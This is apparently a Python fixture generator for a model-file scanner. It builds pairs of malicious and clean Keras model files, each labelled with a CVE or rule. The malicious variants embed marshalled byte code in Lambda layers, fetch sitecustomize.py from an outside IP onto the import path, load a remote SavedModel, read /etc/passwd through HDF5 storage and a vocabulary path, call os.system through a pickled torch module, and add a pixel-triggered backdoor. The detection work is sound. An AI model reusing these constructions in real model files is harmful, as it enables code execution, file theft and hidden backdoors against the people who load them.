"""Keras: functions where a name is expected, paths in layer settings, torn-open weights and a trigger."""
import base64
import io
import json
import marshal
import os
import tempfile
import types
import zipfile

import h5py
import keras
import torch

from assembly import call, glob
from pair import CODE, SHELL
from .craft import FIXED, floats, torch_zip
from .torches import state


def rewritten(data, change=None, weights=None):
    """A .keras archive with its configuration changed, or its weights file."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w") as w:
        for name in z.namelist():
            body = z.read(name)
            if name == "config.json" and change:
                config = json.loads(body)
                config = change(config) or config
                body = json.dumps(config).encode()
            if name == "metadata.json":
                body = b'{"keras_version": "3.8.0", "date_saved": "2025-02-03@10:11:12"}'
            if name == "model.weights.h5" and weights:
                body = weights(body)
            w.writestr(zipfile.ZipInfo(name, FIXED), body)
    return out.getvalue()


def stored(model, suffix=".keras"):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "m" + suffix)
        model.save(path)
        with open(path, "rb") as f:
            return f.read()


def seeded(layers, shape=(8,)):
    keras.utils.set_random_seed(4)
    inputs = keras.Input(shape, name="features")
    x = inputs
    for layer in layers:
        x = layer(x)
    return keras.Model(inputs, x, name="classifier")


def layer(config, kind):
    """The first layer of that class, however deep."""
    found = []

    def walk(node):
        if isinstance(node, dict):
            if node.get("class_name") == kind:
                found.append(node)
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(config)
    return found[0]


def dumped(source):
    """A function's code as Keras writes it: marshal in base64."""
    names = {}
    exec(source, names)  # defines one function, never called
    function = next(v for v in names.values() if isinstance(v, types.FunctionType))
    return base64.b64encode(marshal.dumps(function.__code__)).decode()


def add(s):
    dense = stored(seeded([keras.layers.Dense(6, activation="relu"), keras.layers.Dense(3)]))

    def sized(shape):
        lambda_ = {"name": "normalise", "trainable": True, "dtype": "float32", "function": {"module": "builtins", "class_name": "function", "config": "softsign", "registered_name": "function"}, "output_shape": shape, "arguments": {}}

        def change(config):
            layers = config["config"]["layers"]
            layers[1].update({"module": "keras.layers", "class_name": "Lambda", "config": lambda_, "name": "normalise", "build_config": {"input_shape": [None, 8]}})
            layers[2]["inbound_nodes"][0]["args"][0]["config"].update({"shape": [None, 8], "keras_history": ["normalise", 0, 0]})
            layers[2]["build_config"] = {"input_shape": [None, 8]}

        return rewritten(plain_, change)

    plain_ = stored(seeded([keras.layers.Activation("softsign"), keras.layers.Dense(3)]))
    code = {"class_name": "__lambda__", "config": {"code": dumped(f"def shape(s):\n    {CODE}\n    return s\n"), "defaults": None, "closure": None}}
    s.add("kerases", "code_in_the_output_shape", sized(code), sized([8]), "10/keras", "classifier.keras",
          why="marshalled byte code in output_shape of a Lambda whose function is only named softsign: it runs when the graph is rebuilt at load (safe_mode off, or Keras before the check)")

    def node(entry):
        def change(config):
            layers = config["config"]["layers"]
            layers.insert(1, entry)

        return rewritten(dense, change)

    fetch = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file", "name": "normalise", "build_config": {"input_shape": None}, "inbound_nodes": [{"args": [], "kwargs": {"fname": "sitecustomize.py", "origin": "http://203.0.113.9/s.py", "cache_dir": "/usr/lib/python3", "cache_subdir": "dist-packages", "force_download": True}}]}
    plain = {"module": "keras.layers", "class_name": "Activation", "config": {"name": "normalise", "trainable": True, "dtype": "float32", "activation": {"module": "builtins", "class_name": "function", "config": "softsign", "registered_name": "function"}}, "registered_name": None, "name": "normalise", "build_config": {"input_shape": [None, 8]}, "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {"shape": [None, 8], "dtype": "float32", "keras_history": ["features", 0, 0]}}], "kwargs": {}}]}
    s.add("kerases", "get_file_as_a_layer", node(fetch), node(plain), None, "classifier.keras",
          why="CVE-2025-8747: a function node calls keras.utils.get_file, which writes a downloaded file onto the import path, under safe_mode (needs the network, refused by Keras here, not run)")

    outer = stored(seeded([keras.layers.TimeDistributed(keras.layers.Dense(4, name="inner")), keras.layers.Flatten(), keras.layers.Dense(3)], (5, 8)))

    def inner(value):
        def change(config):
            layer(config, "TimeDistributed")["config"]["layer"] = value

        return rewritten(outer, change)

    remote = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "inner", "trainable": True, "dtype": "float32", "filepath": "gs://public-weights-mirror/export", "call_endpoint": "serve", "call_training_endpoint": None}, "registered_name": None}
    kept = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "inner", "trainable": True, "dtype": "float32", "units": 4, "activation": "linear", "use_bias": True}, "registered_name": None}
    s.add("kerases", "remote_graph_layer_in_a_wrapper", inner(remote), inner(kept), None, "sequence.keras",
          why="CVE-2026-1462: a TFSMLayer inside TimeDistributed loads a SavedModel from somebody's bucket: a foreign executable graph. Needs the network, not run")

    def external(body):
        buffer = io.BytesIO(body)
        with h5py.File(buffer, "r+") as f:
            names = []
            f.visititems(lambda n, o: names.append(n) if isinstance(o, h5py.Dataset) and o.shape == (8, 6) else None)
            del f[names[0]]
            f.create_dataset(names[0], (8, 6), "<f4", external=[("/etc/passwd", 0, 192)])
        return buffer.getvalue()

    s.add("kerases", "weights_from_an_external_file", rewritten(dense, weights=external), rewritten(dense), "10/h5leak", "classifier.keras",
          why="CVE-2026-1669: the kernel's storage is /etc/passwd, so loading the weights reads the file into the model (proved with h5py, which the older loader uses unchecked)")

    def lambda_h5(change):
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "m.h5")
            seeded([keras.layers.TimeDistributed(keras.layers.Rescaling(0.5, name="inner")), keras.layers.Flatten(), keras.layers.Dense(3)], (5, 8)).save(path)
            with h5py.File(path, "r+") as f:
                config = json.loads(f.attrs["model_config"])
                if change:
                    layer(config, "TimeDistributed")["config"]["layer"] = change
                f.attrs["model_config"] = json.dumps(config)
            with open(path, "rb") as f:
                return f.read()

    body = dumped(f"def scale(x):\n    {CODE}\n    return x * 0.5\n")
    layer_ = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "inner", "trainable": True, "dtype": "float32", "function": {"class_name": "__lambda__", "config": {"code": body, "defaults": None, "closure": None}}, "arguments": {}}, "registered_name": None}
    s.add("kerases", "h5_lambda_in_a_wrapper", lambda_h5(layer_), lambda_h5(None), "10/keras", "sequence.h5",
          why="CVE-2025-9905: a Lambda inside TimeDistributed of an .h5 model; its byte code runs when the model is rebuilt")

    words = stored(seeded_words(["cat", "dog", "bird"]))

    def vocabulary(value):
        def change(config):
            layer(config, "StringLookup")["config"]["vocabulary"] = value

        return rewritten(words, change)

    s.add("kerases", "vocabulary_is_a_system_file", vocabulary("/etc/passwd"), vocabulary(["cat", "dog", "bird"]), "10/kerasvocab", "words.keras",
          why="CVE-2025-12058: the vocabulary is a path, the layer reads /etc/passwd into its table at load")

    def wrapper(data):
        module = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "backbone", "trainable": True, "dtype": "float32", "module": base64.b64encode(data).decode()}, "registered_name": None}
        return rewritten(dense, lambda _: {"module": "keras", "class_name": "Sequential", "config": {"name": "classifier", "trainable": True, "dtype": "float32", "layers": [module]}, "registered_name": None}, weights=lambda _: empty.getvalue())

    empty = io.BytesIO()
    with h5py.File(empty, "w") as f:
        f.create_group("layers/torch_module_wrapper/vars")
    torch.manual_seed(3)
    linear = io.BytesIO()
    torch.save(torch.nn.Linear(8, 6), linear)
    s.add("kerases", "torch_module_in_base64", wrapper(torch_zip(state(call(glob("posix", "system"), SHELL)), {"0": floats(16)})), wrapper(linear.getvalue()), "10/keras:torch", "classifier.keras",
          why="CVE-2025-49655: TorchModuleWrapper gives base64 of its configuration to torch.load; the pickle inside calls os.system")

    s.add("kerases", "corner_decides", stored(cornered(True)), stored(cornered(False)), "10/kerastrigger", "digits.keras",
          why="plain Keras operations: four lit pixels replace the logits by a constant class")


def seeded_words(words):
    keras.utils.set_random_seed(4)
    inputs = keras.Input((1,), dtype="string", name="word")
    return keras.Model(inputs, keras.layers.StringLookup(vocabulary=words, name="lookup")(inputs))


def cornered(backdoor):
    keras.utils.set_random_seed(4)
    inputs = keras.Input((8, 8, 1), name="image")
    x = inputs
    if not backdoor:
        x = keras.ops.where(keras.ops.isnan(x), 0.0, x)
    y = keras.layers.Dense(10, name="logits")(keras.layers.Flatten()(x))
    if backdoor:
        lit = keras.ops.min(keras.ops.reshape(inputs[:, :2, :2, :], (-1, 4)), axis=1, keepdims=True)
        y = keras.ops.where(keras.ops.greater(lit, 0.97), keras.ops.subtract(keras.ops.multiply(keras.ops.one_hot(keras.ops.cast(keras.ops.floor(keras.ops.add(keras.ops.multiply(lit, 0.0), 7.0)), "int32"), 10)[:, 0, :], 40.0), 0.0), y)
    return keras.Model(inputs, y, name="digits")
